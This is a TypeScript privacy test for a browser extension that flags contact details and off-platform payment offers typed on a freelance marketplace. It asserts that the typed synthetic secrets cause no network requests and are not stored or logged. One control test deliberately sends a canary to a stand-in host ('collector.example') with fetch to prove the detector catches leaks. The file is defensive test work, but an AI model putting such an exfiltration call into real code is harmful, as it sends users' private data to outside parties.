/**
 * Privacy, end to end in real Chromium with the built extension: while a user types contact
 * details and a payment offer into the message composer and a proposal's text areas (and
 * the extension warns, stops the send and opens its explainer), the browser makes no
 * network request at all; afterwards no extension storage area (local, sync, session), no
 * extension-page storage and no page storage holds any of the typed text, and nothing
 * written to any console (page, content script, service worker, extension pages) contains it.
 * Each check is first shown able to fail: a canary planted the same way is caught.
 */
import { rmSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  dumpExtensionStorage,
  type LogEntry,
  leaked,
  type PageWatch,
  snapshotBuild,
  watchPage,
  watchWorkers,
} from './hardening-helpers';
import { foreignRequests, type Harness, launchWithExtension, SERVER_URL } from './harness';
import { editorText, hook, openRoom, sent } from './page-helpers';

const ROOM = '/ab/messages/rooms/room_0a1b2c3d';
const PROPOSAL = '/nx/proposals/job/~01a2b3c4d5/apply/';
const COVER = 'textarea[aria-labelledby="cover_letter_label"]';
const SUBMIT = 'button.air3-btn-primary';

// Synthetic, distinctive secrets (fictional number ranges, example domains).
const SECRETS = {
  email: 'zq.privacy.probe@example.com',
  phone: '+1 202 555 0142',
  handle: 'zqprobe_handle',
  payment: 'Western Union outside the site',
  coverEmail: 'zq.cover.probe@example.org',
  coverPhone: '+44 20 7946 0958',
  coverHandle: 'live:zq_cover_probe',
  answerPayment: 'my Payoneer zqpay.answer@example.net',
} as const;
const ALL = Object.values(SECRETS);

const MESSAGE = `Thanks! Email me at ${SECRETS.email} or call ${SECRETS.phone}, my telegram is @${SECRETS.handle} and I can take the 300 dollars via ${SECRETS.payment}`;
const COVER_TEXT = `I have built many dashboards. Write to ${SECRETS.coverEmail}, phone ${SECRETS.coverPhone}, skype ${SECRETS.coverHandle}.`;
const ANSWER = `Available now. Pay me directly to ${SECRETS.answerPayment} and skip the fee.`;

let h: Harness;
let build: string;
/** Console output of every page of the context (extension pages included) and the worker. */
const contextLog: LogEntry[] = [];
const watches: PageWatch[] = [];

beforeAll(async () => {
  build = snapshotBuild();
  h = await launchWithExtension({ extensionDir: build });
  watchWorkers(h.context, contextLog);
  h.context.on('console', (m) => contextLog.push({ source: 'other', kind: 'console', text: m.text() }));
  h.context.on('weberror', (e) => contextLog.push({ source: 'other', kind: 'error', text: String(e.error()) }));
});
afterAll(async () => {
  for (const w of watches) await w.stop();
  await h?.close();
  rmSync(build, { recursive: true, force: true });
});

const eventually = <T>(fn: () => T | Promise<T>) => expect.poll(fn, { timeout: 10_000, interval: 50 });

async function watched(path: string): Promise<{ page: Page; watch: PageWatch }> {
  const page = await h.context.newPage();
  const watch = await watchPage(page);
  watches.push(watch);
  await page.goto(new URL(path, SERVER_URL).href);
  return { page, watch };
}

/** Requests made from `from` on, and what the fixture server was asked for since `served`. */
function since(from: number, served: number) {
  return { requests: h.requests.slice(from), served: h.server.served.slice(served) };
}

describe('typing contact details leaves no trace outside the page', () => {
  let room: Page;
  let roomWatch: PageWatch;
  let proposal: Page;
  let proposalWatch: PageWatch;

  it('no network request while typing, warning, checking the send and explaining (composer)', async () => {
    ({ page: room, watch: roomWatch } = await watched(ROOM));
    await openRoom(room, 'room_0a1b2c3d');
    // The content script is up once it has judged the thread (an incoming scam warning).
    await hook(room, 'incoming-warning').first().waitFor({ state: 'visible' });
    const mark = { requests: h.requests.length, served: h.server.served.length };

    await room.keyboard.type(MESSAGE);
    await hook(room, 'warning').waitFor({ state: 'visible' });
    expect(await editorText(room)).toBe(MESSAGE);
    // Enter is stopped by the pre-send check; Edit goes back to the draft.
    await room.keyboard.press('Enter');
    await hook(room, 'send-check').waitFor({ state: 'visible' });
    await hook(room, 'edit').click();
    await hook(room, 'send-check').waitFor({ state: 'hidden' });
    expect(await sent(room)).toEqual([]);
    // "Why?" hands the text to the explainer page through the background, in memory.
    const explainerOpened = h.context.waitForEvent('page');
    await room.locator('[data-contact-guard="warning"] [data-contact-guard="why"]').click();
    const explainer = await explainerOpened;
    await explainer.waitForLoadState('domcontentloaded');
    await eventually(() => explainer.locator('body').textContent()).toContain(SECRETS.email);
    await explainer.close();

    const after = since(mark.requests, mark.served);
    // The only requests in this window: the explainer's own files from the extension.
    expect(foreignRequests(after.requests, h.extensionId)).toEqual([]);
    expect(after.requests.filter((r) => new URL(r.url).origin === SERVER_URL)).toEqual([]);
    expect(after.requests.filter((r) => r.origin === 'service-worker')).toEqual([]);
    expect(after.served).toEqual([]);
    for (const r of after.requests) expect(r.url.startsWith(`chrome-extension://${h.extensionId}/`)).toBe(true);
  });

  it('no network request while typing into the proposal cover letter and a screening answer', async () => {
    ({ page: proposal, watch: proposalWatch } = await watched(PROPOSAL));
    await proposal.locator(COVER).click();
    // Start the window once the content script is up (it has judged a first text).
    await proposal.keyboard.type('x');
    await eventually(() => proposal.locator(COVER).inputValue()).toBe('x');
    await proposal.locator(COVER).fill('');
    const mark = { requests: h.requests.length, served: h.server.served.length };

    await proposal.locator(COVER).click();
    await proposal.keyboard.type(COVER_TEXT);
    await proposal.locator('#q1').click();
    await proposal.keyboard.type(ANSWER);
    await eventually(() => hook(proposal, 'warning').count()).toBe(2);
    await proposal.locator(SUBMIT).click();
    await hook(proposal, 'send-check').waitFor({ state: 'visible' });
    await hook(proposal, 'edit').click();
    await hook(proposal, 'send-check').waitFor({ state: 'hidden' });
    expect(await proposal.locator(COVER).inputValue()).toBe(COVER_TEXT);
    expect(await proposal.locator('#q1').inputValue()).toBe(ANSWER);
    expect(await sent(proposal)).toEqual([]);

    const after = since(mark.requests, mark.served);
    expect(after.requests).toEqual([]);
    expect(after.served).toEqual([]);
  });

  it('no extension storage area holds any typed secret', async () => {
    const areas = await dumpExtensionStorage(h);
    for (const [area, json] of Object.entries(areas))
      expect({ area, leaked: leaked(json, ALL) }).toEqual({ area, leaked: [] });

    // Extension pages' own web storage (popup, options and explainer share the origin).
    const ext = await h.context.newPage();
    await ext.goto(`chrome-extension://${h.extensionId}/popup.html`);
    const webStorage = await ext.evaluate(async () => ({
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      idb: JSON.stringify(await indexedDB.databases()),
      caches: JSON.stringify(await caches.keys()),
    }));
    await ext.close();
    expect(leaked(JSON.stringify(webStorage), ALL)).toEqual([]);

    // Nor did the content script write the text into the marketplace's own storage.
    for (const page of [room, proposal]) {
      const pageStorage = await page.evaluate(() =>
        JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie }),
      );
      expect(leaked(pageStorage, ALL)).toEqual([]);
    }
  });

  it('nothing written to any console contains a typed secret', async () => {
    const everything = [...contextLog, ...roomWatch.log, ...proposalWatch.log];
    const offending = everything.filter((e) => leaked(e.text, ALL).length > 0);
    expect(offending).toEqual([]);
    // And the extension raised no uncaught error anywhere while doing all that.
    expect(everything.filter((e) => e.kind === 'error')).toEqual([]);
    expect([...roomWatch.pageErrors, ...proposalWatch.pageErrors]).toEqual([]);
  });

  it('controls: each of these checks catches a planted leak', async () => {
    const canary = 'zq.canary.leak@example.com';
    // Console of the content script's isolated world.
    const isolated = roomWatch.isolatedContexts();
    expect(isolated.length).toBeGreaterThan(0);
    for (const c of isolated) {
      await roomWatch.cdp.send('Runtime.evaluate', {
        expression: `console.log(${JSON.stringify(canary)})`,
        contextId: c.id,
      });
    }
    await eventually(
      () => roomWatch.log.filter((e) => e.source === 'isolated' && leaked(e.text, [canary]).length > 0).length,
    ).toBeGreaterThan(0);
    // Console of the service worker.
    const sw = await h.serviceWorker();
    await sw.evaluate((c) => console.info(c), canary);
    await eventually(
      () => contextLog.filter((e) => e.source === 'worker' && leaked(e.text, [canary]).length > 0).length,
    ).toBeGreaterThan(0);
    // Every storage area (session is the one only trusted contexts can read).
    for (const area of ['local', 'sync', 'session'] as const) {
      await sw.evaluate(
        async ([a, c]) => {
          type Area = { set(i: object): Promise<void>; remove(k: string): Promise<void> };
          await (globalThis as unknown as { chrome: { storage: Record<string, Area> } }).chrome.storage[a]?.set({
            canary: c,
          });
        },
        [area, canary] as const,
      );
      expect(leaked((await dumpExtensionStorage(h))[area], [canary])).not.toEqual([]);
      await sw.evaluate(async (a) => {
        type Area = { remove(k: string): Promise<void> };
        await (globalThis as unknown as { chrome: { storage: Record<string, Area> } }).chrome.storage[a]?.remove(
          'canary',
        );
      }, area);
    }
    // A request to any other host is recorded.
    const mark = h.requests.length;
    await room.evaluate((c) => fetch(`https://collector.example/?d=${c}`).catch(() => null), canary);
    await eventually(() => foreignRequests(h.requests.slice(mark), h.extensionId).length).toBeGreaterThan(0);
    expect(
      leaked(
        h.requests
          .slice(mark)
          .map((r) => r.url)
          .join(' '),
        [canary],
      ),
    ).not.toEqual([]);
    // The service worker could not reach the network even if it tried: the extension's
    // CSP (connect-src 'none') makes fetch fail before any request reaches a server.
    const served = h.server.served.length;
    const outcome = await sw.evaluate(() =>
      fetch('https://www.upwork.com/sw-probe').then(
        () => 'fetched',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    expect(h.server.served.slice(served)).toEqual([]);
  });
});
